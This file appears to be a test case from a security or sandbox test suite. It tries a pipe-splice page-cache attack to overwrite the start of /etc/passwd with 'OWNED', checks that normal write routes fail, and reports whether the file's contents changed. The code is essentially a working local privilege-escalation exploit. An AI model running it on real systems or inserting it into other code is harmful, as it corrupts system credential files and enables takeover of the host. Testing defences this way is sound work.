/* attack: changes a read-only file of the toolchain through the page cache: splice, pipes, sendfile
 * proof: the file reads as before in this process and in a new one */
#include "../attack.h"

int main(void) {
  static const char path[] = "/etc/passwd";
  char before[256] = "", after[256] = "";
  int file = open(path, O_RDONLY);
  read(file, before, sizeof before - 1);
  int ends[2];
  pipe(ends);
  int capacity = fcntl(ends[1], F_GETPIPE_SZ);
  static char buffer[4096];
  for (int left = capacity; left > 0; left -= (int)sizeof buffer) /* every buffer gets the flag to merge */
    write(ends[1], buffer, sizeof buffer);
  for (int left = capacity; left > 0; left -= (int)sizeof buffer)
    read(ends[0], buffer, sizeof buffer);
  off_t offset = 0;
  splice(file, &offset, ends[1], NULL, 1, 0);
  write(ends[1], "OWNED", 5);
  must_fail("splice into the file", splice(ends[0], NULL, file, NULL, 1, 0));
  must_fail("copy_file_range into the file", copy_file_range(file, NULL, file, NULL, 1, 0));
  must_fail("write to the file", write(file, "x", 1));
  must_fail("fallocate the file", fallocate(file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096));
  must_fail("map the file shared and writable",
            mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0) == MAP_FAILED ? -1 : 0);
  int again = open(path, O_RDONLY);
  read(again, after, sizeof after - 1);
  if (memcmp(before, after, sizeof before) != 0)
    achieved("another content of %s: %s", path, after);
}
